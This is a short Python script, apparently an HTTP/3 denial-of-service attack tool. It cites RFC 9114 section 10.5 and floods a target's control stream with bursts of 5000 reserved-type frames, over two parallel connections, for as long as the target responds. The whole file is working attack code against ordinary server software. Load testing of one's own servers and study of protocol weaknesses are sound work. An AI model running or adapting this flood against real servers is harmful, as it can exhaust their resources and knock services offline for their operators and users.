"""Frames of reserved types and no length on the control stream, without end (RFC 9114, 10.5)."""

from wire.http3 import frame, http3


async def attack(target):
    burst = frame(0x21) * 5000

    async def lane(number):
        async with http3(target, target.source(number)) as it:
            while it and target.goes_on():
                await it.send(it.control, burst)

    await target.lanes(2, lane)
